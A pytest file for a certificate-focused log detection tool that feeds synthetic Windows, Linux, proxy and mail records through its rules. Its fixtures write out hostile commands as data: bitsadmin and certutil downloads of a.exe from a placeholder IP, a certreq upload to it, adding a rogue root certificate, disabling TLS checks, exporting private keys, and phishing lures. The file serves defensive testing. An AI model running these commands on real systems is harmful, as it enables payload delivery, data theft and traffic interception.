"""Rules over log records meet the records: a line of each source, through ``scan``, to the finding and its reason."""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from email.message import EmailMessage
from pathlib import Path
from xml.sax.saxutils import escape

import pytest

from certhound.findings.report import Finding, Report
from certhound.findings.run import scan
from certhound.model.profile import Profile
from certhound.rules import load_rules

CATEGORIES = ("process", "script", "registry", "file", "web", "mail", "click", "connection", "certificate_service")
PRINT = "0123456789ABCDEF0123456789ABCDEF01234567"
STAMP = "2026-09-21T14:13:20.1234567Z"


@dataclass(frozen=True)
class Case:
    """Text of a log, the rule that it is about, what the finding is about, and what its reason says."""

    rule: str
    log: str
    entity: str
    reason: str
    kind: str = "host"
    also: tuple[str, ...] = field(default=())


# --- records ----------------------------------------------------------------


def sysmon(number: int, computer: str, **data: str) -> str:
    provider, channel = "Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational"
    return event(
        provider, channel, number, computer, {"UtcTime": "2026-09-21 14:13:20.500", "User": r"CORP\bob"} | data
    )


def event(provider: str, channel: str, number: int, computer: str, data: dict[str, str]) -> str:
    said = "".join(f'<Data Name="{name}">{escape(value)}</Data>' for name, value in data.items())
    return (
        '<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System>'
        f'<Provider Name="{provider}"/><EventID>{number}</EventID><TimeCreated SystemTime="{STAMP}"/>'
        f"<Channel>{channel}</Channel><Computer>{computer}</Computer></System><EventData>{said}</EventData></Event>\n"
    )


def run(computer: str, image: str, command: str) -> str:
    return sysmon(1, computer, Image=image, CommandLine=command, ProcessId="7", ParentImage=r"C:\Windows\cmd.exe")


def script(computer: str, text: str) -> str:
    provider, channel = "Microsoft-Windows-PowerShell", "Microsoft-Windows-PowerShell/Operational"
    block = {"MessageNumber": "1", "MessageTotal": "1", "ScriptBlockText": text, "ScriptBlockId": computer, "Path": ""}
    return event(provider, channel, 4104, computer, block)


def audit(computer: str, serial: int, image: str, command: str) -> str:
    """The records of one start of a program; words that hold blanks are written in hex, as the kernel does."""
    head = f"msg=audit(1790000000.123:{serial}):"
    words = command.split("|")
    shown = " ".join(f'a{n}="{w}"' if " " not in w else f"a{n}={w.encode().hex().upper()}" for n, w in enumerate(words))
    return (
        f"node={computer} type=SYSCALL {head} arch=c000003e syscall=59 success=yes exit=0 items=2 ppid=10 pid=11 "
        f'auid=1000 uid=0 gid=0 euid=0 tty=pts0 ses=1 comm="x" exe="{image}" key="cert"\n'
        f"node={computer} type=EXECVE {head} argc={len(words)} {shown}\nnode={computer} type=EOE {head} \n"
    )


def created(computer: str, serial: int, path: str) -> str:
    head = f"node={computer} type={{}} msg=audit(1790000002.000:{serial}):"
    return (
        f"{head.format('SYSCALL')} arch=c000003e syscall=257 success=yes exit=3 items=2 ppid=10 pid=13 auid=1000 uid=0 "
        'comm="openssl" exe="/usr/bin/openssl" key="certfile"\n'
        f'{head.format("CWD")} cwd="/root"\n{head.format("PATH")} item=0 name="/tmp" nametype=PARENT\n'
        f'{head.format("PATH")} item=1 name="{path}" nametype=CREATE\n{head.format("EOE")} \n'
    )


def connected(computer: str, serial: int, saddr: str, image: str) -> str:
    head = f"msg=audit(1790000001.500:{serial}):"
    return (
        f"node={computer} type=SYSCALL {head} arch=c000003e syscall=42 success=yes exit=0 items=0 ppid=10 pid=12 "
        f'auid=1000 uid=33 comm="openssl" exe="{image}" key="net"\n'
        f"node={computer} type=SOCKADDR {head} saddr={saddr}\nnode={computer} type=EOE {head} \n"
    )


def defender(table: str, **row: str) -> str:
    said = {"Timestamp": STAMP, **row}
    return (
        json.dumps({"time": STAMP, "tenantId": "t", "category": f"AdvancedHunting-{table}", "properties": said}) + "\n"
    )


def zscaler(host: str, action: str, told: str, url: str = "", method: str = "GET") -> str:
    return (
        f"<134>Jan 31 08:15:00 zscaler-nss CEF:0|Zscaler|NSSWeblog|5.7|{action}|{action}|3|act={action} app=HTTPS "
        f"cat=News dhost={host} dst=198.51.100.7 src=10.1.2.3 in=5 outcome=200 out=6 "
        f"request={url or host + '/x'} rt=Jan 31 26 08:15:00 requestMethod={method} suser=joe%40example.test {told}\n"
    )


def squid(host: str, errors: str, code: str = "NONE_NONE/200") -> str:
    return (
        f"24/Nov/2026:07:17:13 +0100 10.1.2.3:41119 {code} CONNECT {host}:443 user=carol "
        f'dst=198.51.100.7:443 bump=bump sni="{host}" server_subject="/O=Self/CN=a" server_issuer="/O=Self/CN=a" '
        f"errors={errors} stls=TLS/1.2 sciph=-\n"
    )


def squid_native(url: str, method: str = "GET", client: str = "10.1.2.3", server: str = "198.51.100.9") -> str:
    return f"1795504633.170     30 {client} TCP_MISS/200 4711 {method} {url} - HIER_DIRECT/{server} text/html\n"


FORTI = 'date=2026-05-05 time=10:00:02 tz="+0000" devname=edge devid=FG100FTK20000001 logid=1700062300 type=utm '


def fortigate(host: str, action: str, reason: str) -> str:
    return (
        f"{FORTI}subtype=ssl eventtype=ssl-anomaly action={action} srcip=10.1.2.3 srcport=50101 dstip=198.51.100.8 "
        f'dstport=443 proto=6 sni="{host}" hostname="{host}" reason="{reason}" msg="certificate"\n'
    )


def palo_alto(host: str, action: str, chain: str, error: str) -> str:
    """A decryption record of PAN-OS 10, which has the certificate's names."""
    at, sha256 = "2026/05/05 10:00:02", f"{len(host):02d}" * 32
    return (
        f"1,{at},111111111111,DECRYPTION,0,2562,{at},10.1.2.3,198.51.100.9,203.0.113.1,0.0.0.0,Rule A,corp\\joe,,ssl,"
        f"vsys1,LAN,WAN,ae1,ae2,Fwd,{at},2020391,1,55107,443,22814,443,0x400400,tcp,{action},N/A,,,,,u-1,Finished,"
        f"Client_Hello,TLS1.2,ECDHE,AES_256_GCM,SHA384,Policy,x25519,{error},trusted,{chain},Forward,059125d7,{sha256},"
        f"2026/05/01 02:00:00,2027/05/01 01:59:59,V3,256,13,29,10,23,:::::RSA,{host},Lab CA,Root,{host},,,,,,,,,"
        "2026-05-05T10:00:02.654+00:00\n"
    )


def blue_coat(host: str, verdict: str, status: str, errors: str) -> str:
    """What ProxySG's facility *main* says with the fields about certificates added."""
    return (
        f"<134>1 2026-05-05T10:00:02.123Z proxy1 bluecoat - splunk_format - c-ip=10.1.2.3 cs-host={host} cs-method=GET "
        f"cs-uri-path=/ cs-uri-port=443 cs-uri-scheme=https cs-username=joe s-action=TCP_MISS "
        f"s-supplier-ip=198.51.100.4 sc-filter-result={verdict} sc-status=200 "
        f"x-rs-certificate-validate-status={status} x-rs-certificate-observed-errors={errors} "
        "x-rs-connection-negotiated-ssl-version=TLSv1.2\n"
    )


def mail(link: str, sender: str = "bob@evil.example") -> str:
    made = EmailMessage()
    made["Received"] = "from mail.evil.example ([203.0.113.66]) by mx.corp.example; Mon, 21 Sep 2026 14:13:21 +0000"
    made["From"], made["To"], made["Subject"] = sender, "ann@corp.example", "Invoice"
    made["Date"], made["Message-ID"] = "Mon, 21 Sep 2026 16:13:20 +0200", "<id-1@evil.example>"
    made.set_content(f"see {link}\n")
    return made.as_string()


CA = ("Microsoft-Windows-Security-Auditing", "Security")
LIFECYCLE = (
    "Microsoft-Windows-CertificateServicesClient-Lifecycle-System",
    "Microsoft-Windows-CertificateServicesClient-Lifecycle-System/Operational",
)


def lifecycle(number: int, computer: str, subject: str) -> str:
    return (
        '<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System>'
        f'<Provider Name="{LIFECYCLE[0]}"/><EventID>{number}</EventID><TimeCreated SystemTime="{STAMP}"/>'
        f"<Channel>{LIFECYCLE[1]}</Channel><Computer>{computer}</Computer></System><UserData>"
        '<CertNotificationData ProcessName="powershell.exe" AccountName="CORP\\bob" Context="System">'
        f'<CertificateDetails Thumbprint="{PRINT}" NotValidAfter="2027-01-01T00:00:00Z" StoreName="MY">'
        f"<SubjectNames><SubjectName>{subject}</SubjectName></SubjectNames></CertificateDetails></CertNotificationData></UserData></Event>\n"
    )


SYSTEM = "C:\\Windows\\System32\\"
STORES = "HKLM\\SOFTWARE\\Microsoft\\SystemCertificates\\"

# --- cases ----------------------------------------------------------------

CASES = [
    Case(
        "acme_client_run",
        audit("p01", 1, "/usr/bin/python3.11", "/usr/bin/python3|/usr/bin/certbot|certonly|-d|a.example"),
        "p01",
        "p01: /usr/bin/python3 /usr/bin/certbot certonly",
    ),
    Case("acme_dry_run", audit("p02", 2, "/usr/bin/certbot", "certbot|certonly|--dry-run"), "p02", "--dry-run"),
    Case(
        "bitsadmin_download",
        run("p03", SYSTEM + "bitsadmin.exe", r"bitsadmin /transfer j https://203.0.113.9/a.exe c:\a"),
        "p03",
        "p03: bitsadmin /transfer",
    ),
    Case(
        "certificate_bound_to_port",
        run("p04", SYSTEM + "netsh.exe", "netsh http add sslcert ipport=0.0.0.0:443 certhash=ab"),
        "p04",
        "sslcert",
    ),
    Case(
        "certificate_captured",
        audit("p05", 5, "/usr/bin/openssl", "openssl|s_client|-connect|mail.example:443"),
        "p05",
        "p05: openssl s_client -connect mail.example:443",
    ),
    Case(
        "certificate_check_switched_off",
        audit("p06", 6, "/usr/bin/curl", "curl|-sk|https://203.0.113.9/a"),
        "p06",
        "-sk",
    ),
    Case("certificate_encoded", audit("p07", 7, "/usr/bin/base64", "base64|-w0|site.pem"), "p07", "site.pem"),
    Case(
        "certificate_requested_by_command", run("p08", SYSTEM + "certreq.exe", "certreq -submit r.csr"), "p08", "r.csr"
    ),
    Case(
        "certreq_as_uploader",
        run("p09", SYSTEM + "certreq.exe", "CertReq -Post -config https://203.0.113.9/ w.ini o.txt"),
        "p09",
        "-Post",
    ),
    Case("certutil_decode", run("p10", SYSTEM + "certutil.exe", "certutil -decode a.txt a.exe"), "p10", "-decode"),
    Case(
        "certutil_download",
        defender(
            "DeviceProcessEvents",
            DeviceName="p11",
            FolderPath=SYSTEM + "certutil.exe",
            FileName="certutil.exe",
            ProcessCommandLine="certutil.exe -urlcache -split -f https://203.0.113.9/a.exe a.exe",
            ProcessId="7",
            AccountDomain="corp",
            AccountName="bob",
            ActionType="ProcessCreated",
        ),
        "p11",
        "p11: certutil.exe -urlcache",
    ),
    Case("interception_tool_run", audit("p12", 12, "/usr/bin/mitmdump", "mitmdump|-p|8080"), "p12", "mitmdump"),
    Case(
        "linux_trust_store_changed",
        audit("p13", 13, "/bin/sh", "/bin/sh|/usr/sbin/update-ca-certificates"),
        "p13",
        "update-ca",
    ),
    Case("makecert_run", run("p14", r"C:\kits\makecert.exe", "makecert -r -pe -n CN=x x.cer"), "p14", "makecert -r"),
    Case(
        "openssl_self_signed",
        audit("p15", 15, "/usr/bin/openssl", "openssl|req|-x509|-newkey|rsa:2048|-subj|/CN=a b"),
        "p15",
        "p15: openssl req -x509 -newkey rsa:2048 -subj /CN=a b",
    ),
    Case(
        "phishing_proxy_run", audit("p16", 16, "/opt/evilginx/evilginx", "./evilginx|-p|phishlets"), "p16", "evilginx"
    ),
    Case(
        "powershell_makes_certificate",
        run(
            "p17",
            SYSTEM + r"WindowsPowerShell\v1.0\powershell.exe",
            "powershell -c New-SelfSignedCertificate -DnsName x",
        ),
        "p17",
        "New-SelfSignedCertificate",
    ),
    Case(
        "private_key_exported",
        run("p18", SYSTEM + "certutil.exe", "certutil -exportPFX my 01ab x.pfx"),
        "p18",
        "-exportPFX",
    ),
    Case(
        "root_certificate_added_by_command",
        run("p19", SYSTEM + "certutil.exe", "certutil -addstore root evil.cer"),
        "p19",
        "-addstore",
    ),
    Case(
        "script_adds_root",
        script("s1", r"Import-Certificate -FilePath c.cer -CertStoreLocation Cert:\LocalMachine\Root"),
        "s1",
        "s1: a script adds",
    ),
    Case(
        "script_binds_certificate",
        script("s2", "New-WebBinding -Name x -Protocol https -Port 443"),
        "s2",
        "s2: a script binds",
    ),
    Case(
        "script_exports_key",
        script("s3", "Export-PfxCertificate -Cert $c -FilePath x.pfx"),
        "s3",
        "s3: a script exports",
    ),
    Case(
        "script_makes_certificate",
        script("s4", "New-SelfSignedCertificate -DnsName login.example"),
        "s4",
        "s4: a script makes",
    ),
    Case(
        "script_switches_check_off",
        script("s5", "[System.Net.ServicePointManager]::ServerCertificateValidationCallback = {$true}"),
        "s5",
        "s5: a script",
    ),
    Case(
        "own_certificate_in_registry",
        sysmon(
            13,
            "r1",
            EventType="SetValue",
            Image=SYSTEM + "powershell.exe",
            Details="Binary Data",
            TargetObject=f"{STORES}MY\\Certificates\\{PRINT}\\Blob",
        ),
        "r1",
        "powershell.exe wrote HKLM",
    ),
    Case(
        "root_certificate_in_registry",
        sysmon(
            13,
            "r2",
            EventType="SetValue",
            Image=r"C:\Windows\regedit.exe",
            Details="Binary Data",
            TargetObject=f"{STORES}ROOT\\Certificates\\{PRINT}\\Blob",
        ),
        "r2",
        r"r2: C:\Windows\regedit.exe wrote HKLM",
    ),
    Case("certificate_as_base64_copy", created("f1", 31, "/tmp/site.pem.b64"), "f1", "/tmp/site.pem.b64"),
    Case(
        "key_file_in_odd_place",
        created("f2", 32, "/dev/shm/server.key"),
        "f2",
        "f2: /usr/bin/openssl wrote /dev/shm/server.key",
    ),
    Case(
        "key_file_in_odd_place",
        sysmon(11, "f3", Image=r"C:\x.exe", TargetFilename=r"C:\Users\Public\a.pfx"),
        "f3",
        "a.pfx",
    ),
    Case(
        "passed_self_signed",
        zscaler("w01.example", "Allowed", "srvcertchainvalpass=Fail is_sslselfsigned=Yes"),
        "w01.example",
        "let w01.example pass, of whose certificate it says: Fail, self-signed",
        "name",
    ),
    Case(
        "passed_self_signed",
        squid("w02.example", "X509_V_ERR_DEPTH_ZERO_SELF_SIGNED_CERT@depth=0"),
        "w02.example",
        "SELF_SIGNED",
        "certificate",
    ),
    Case("passed_expired", zscaler("w03.example", "Allowed", "is_sslexpiredca=Yes"), "w03.example", "expired", "name"),
    Case(
        "passed_revoked", zscaler("w04.example", "Allowed", "srvocspresult=Revoked"), "w04.example", "revoked", "name"
    ),
    Case(
        "passed_untrusted_issuer",
        zscaler("w05.example", "Allowed", "is_ssluntrustedca=Fail"),
        "w05.example",
        "untrusted",
        "name",
    ),
    Case(
        "passed_untrusted_issuer",
        fortigate("w06.example", "passthrough", "untrusted-cert"),
        "w06.example",
        "untrusted",
        "name",
    ),
    Case(
        "passed_wrong_name",
        squid("w07.example", "SQUID_X509_V_ERR_DOMAIN_MISMATCH@depth=0"),
        "w07.example",
        "MISMATCH",
        "certificate",
    ),
    Case(
        "passed_failed_chain",
        zscaler("w08.example", "Allowed", "srvcertchainvalpass=Fail"),
        "w08.example",
        "Fail",
        "name",
    ),
    Case(
        "blocked_for_certificate",
        zscaler("w09.example", "Blocked", "is_ssluntrustedca=Fail"),
        "w09.example",
        "the proxy blocked w09.example",
        "name",
    ),
    Case(
        "blocked_for_certificate",
        fortigate("w10.example", "blocked", "block-cert-invalid"),
        "w10.example",
        "block-cert-invalid",
        "name",
    ),
    Case(
        "passed_untrusted_issuer",
        palo_alto("w11.example", "allow", "Untrusted", "None"),
        "w11.example",
        "Untrusted",
        "certificate",
    ),
    Case(
        "passed_untrusted_issuer",
        blue_coat("w12.example", "OBSERVED", "CERT_UNTRUSTED", "untrusted-issuer"),
        "w12.example",
        "CERT_UNTRUSTED",
        "name",
    ),
    Case(
        "blocked_for_certificate",
        blue_coat("w13.example", "DENIED", "CERT_EXPIRED", "expired"),
        "w13.example",
        "CERT_EXPIRED",
        "name",
    ),
    Case(
        "paste_or_drop_host",
        squid_native("pastebin.com:443", "CONNECT"),
        "pastebin.com",
        "10.1.2.3 went to pastebin.com",
        "name",
    ),
    Case(
        "program_from_bare_address",
        squid_native("https://203.0.113.77/a.exe", server="203.0.113.77"),
        "203.0.113.77",
        "10.1.2.3 fetched https://203.0.113.77/a.exe",
        "name",
    ),
    Case(
        "program_from_drop_host",
        zscaler("transfer.sh", "Allowed", "srvtlsversion=TLS1_2", "transfer.sh/x/a.exe"),
        "transfer.sh",
        "10.1.2.3 fetched transfer.sh/x/a.exe",
        "name",
    ),
    Case(
        "delivered_in_spite_of_verdict",
        defender(
            "EmailEvents",
            NetworkMessageId="n1",
            RecipientEmailAddress="ann@corp.example",
            SenderFromAddress="bob@evil.example",
            Subject="Pay",
            InternetMessageId="<m1@evil.example>",
            DeliveryAction="Delivered",
            ThreatTypes="Phish",
        ),
        "",
        "a mail from bob@evil.example was delivered though it was judged Phish",
        "",
    ),
    Case("link_to_bare_address", mail("https://203.0.113.9/login"), "", "a mail from bob@evil.example links", ""),
    Case(
        "link_to_encoded_name",
        mail("https://xn--pypal-4ve.example/", "eve@evil.example"),
        "",
        "a mail from eve@evil.example links",
        "",
    ),
    Case(
        "click_on_judged_link",
        defender(
            "UrlClickEvents",
            AccountUpn="ann@corp.example",
            Url="https://c1.example/p",
            ActionType="ClickAllowed",
            IsClickedThrough="false",
            IPAddress="192.0.2.9",
            NetworkMessageId="n1",
            ThreatTypes="Phish",
        ),
        "c1.example",
        "ann@corp.example clicked on https://c1.example/p, which was judged Phish",
        "name",
    ),
    Case(
        "click_through_warning",
        defender(
            "UrlClickEvents",
            AccountUpn="ann@corp.example",
            Url="https://c2.example/p",
            ActionType="ClickBlocked",
            IsClickedThrough="true",
            IPAddress="192.0.2.9",
            NetworkMessageId="n1",
        ),
        "c2.example",
        "ann@corp.example went on to https://c2.example/p",
        "name",
    ),
    Case(
        "acme_client_connects",
        sysmon(
            3,
            "n1",
            Image="/usr/bin/python3.11",
            Protocol="tcp",
            Initiated="true",
            SourceIp="10.0.0.5",
            SourcePort="40000",
            DestinationIp="172.65.32.248",
            DestinationPort="443",
            DestinationHostname="acme-v02.api.letsencrypt.org",
        ),
        "acme-v02.api.letsencrypt.org",
        "n1 connected to acme-v02",
        "name",
    ),
    Case(
        "openssl_connects_out",
        connected("n2", 41, "020001BBC63364070000000000000000", "/usr/bin/openssl"),
        "198.51.100.7:443",
        "n2: openssl connected to 198.51.100.7:443",
        "destination",
    ),
    Case(
        "ca_settings_changed",
        event(*CA, 4882, "ca1", {"SubjectUserName": "domadm", "SubjectDomainName": "CORP", "SecuritySettings": "x"}),
        "ca1",
        "ca1: permissions changed",
    ),
    Case(
        "request_names_somebody_else",
        event(
            *CA,
            4887,
            "ca2",
            {
                "RequestId": "7",
                "Requester": r"CORP\mallory",
                "Attributes": "CertificateTemplate:Web\nSAN:upn=admin@corp.example",
                "Disposition": "3",
                "SubjectKeyIdentifier": "ab",
                "Subject": "CN=mallory",
            },
        ),
        "ca2",
        r"CORP\mallory asked the CA for",
    ),
    Case("certificate_exported", lifecycle(1007, "l1", "CN=x"), "l1", "was exported by"),
    Case("certificate_installed", lifecycle(1006, "l2", "CN=y"), "l2", "was installed by powershell.exe"),
]


@pytest.fixture(scope="module")
def report(tmp_path_factory: pytest.TempPathFactory) -> Report:
    folder = tmp_path_factory.mktemp("logs")
    for number, case in enumerate(CASES):
        name = f"{number:02d}.eml" if case.log.startswith("Received") else f"{number:02d}.log"
        (folder / name).write_text(case.log)
    return scan([folder], profile=Profile())


def test_every_file_is_understood(report: Report) -> None:
    assert report.unrecognised == ()
    assert report.rejected == ()
    assert {each.rule for each in report.not_run} & {case.rule for case in CASES} == set()


def _about(finding: Finding, case: Case) -> bool:
    return case.kind in ("", finding.entity.kind) and case.entity in (
        "", finding.entity.key, *finding.entity.names)  # fmt: skip


@pytest.mark.parametrize("case", CASES, ids=[f"{case.rule}-{n}" for n, case in enumerate(CASES)])
def test_it_is_found_and_says_why(case: Case, report: Report) -> None:
    signals = [
        (finding, signal)
        for finding in report.findings
        if _about(finding, case)
        for signal in finding.signals
        if signal.rule == case.rule and case.reason in signal.reason
    ]
    met = [(f.entity.kind, f.entity.key, s.reason) for f in report.findings for s in f.signals if s.rule == case.rule]
    assert signals, met
    finding, signal = signals[0]
    assert "unknown" not in signal.reason
    assert signal.origins[0].file.endswith(f"{CASES.index(case):02d}.{'eml' if case.log.startswith('Rec') else 'log'}")
    assert signal.origins[0].record is not None
    assert finding.first_seen is not None


def test_every_rule_over_such_records_has_a_line() -> None:
    rules = {rule.name for rule in load_rules() if rule.own and rule.category in CATEGORIES}
    assert rules == {case.rule for case in CASES}


def test_records_within_a_mixed_file_of_a_sensor(tmp_path: Path) -> None:
    """EVE is scanned where it lies, whatever kinds of records stand in it."""
    lines = [
        {"event_type": "http", "http": {"hostname": "pastebin.com", "url": "/raw/abc", "http_method": "GET"}},
        {"event_type": "tls", "tls": {"sni": "a.example", "subject": "CN=a", "issuerdn": "CN=a", "version": "TLS 1.2"}},
    ]
    shared = {
        "timestamp": "2023-11-14T22:13:20.000000+0000", "src_ip": "10.1.0.9", "src_port": 51000,
        "dest_ip": "203.0.113.5", "dest_port": 443, "proto": "TCP",
    }  # fmt: skip
    said = [json.dumps(shared | {"flow_id": number} | line) for number, line in enumerate(lines)]
    (tmp_path / "eve.json").write_text("\n".join(said) + "\n")
    report = scan([tmp_path], profile=Profile())
    finding = next(each for each in report.findings if each.entity.key == "pastebin.com")
    assert {signal.rule for signal in finding.signals} == {"paste_or_drop_host", "program_from_drop_host"}
    assert "10.1.0.9 went to pastebin.com" in {signal.reason for signal in finding.signals}


def test_hosts_that_their_logs_do_not_name_are_told_apart_by_folder(tmp_path: Path) -> None:
    made = (
        "type=SYSCALL msg=audit(1790000001.123:10): arch=c000003e syscall=59 success=yes exit=0 ppid=4 pid=5 auid=1000 "
        'uid=0 comm="openssl" exe="/usr/bin/openssl" key="exec"\n'
        'type=EXECVE msg=audit(1790000001.123:10): argc=3 a0="openssl" a1="req" a2="-x509"\n'
    )
    for host, file in (("web01", "audit.log"), ("web01", "audit.log.1"), ("web02", "audit.log")):
        folder = tmp_path / host
        folder.mkdir(exist_ok=True)
        (folder / file).write_text(made)
    report = scan([tmp_path], profile=Profile())
    keys = sorted(finding.entity.key for finding in report.findings)
    assert keys == [f"unnamed host, logs in {tmp_path / host}" for host in ("web01", "web02")]
